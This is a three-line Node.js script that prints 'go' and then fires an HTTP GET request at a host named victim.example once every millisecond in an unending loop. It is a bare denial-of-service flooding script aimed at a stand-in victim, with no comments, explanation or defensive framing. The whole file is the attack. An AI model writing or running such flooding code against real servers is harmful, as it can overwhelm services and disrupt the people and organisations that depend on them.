const http = require('http');
console.log('go');
setInterval(() => { http.get('http://victim.example/'); }, 1);
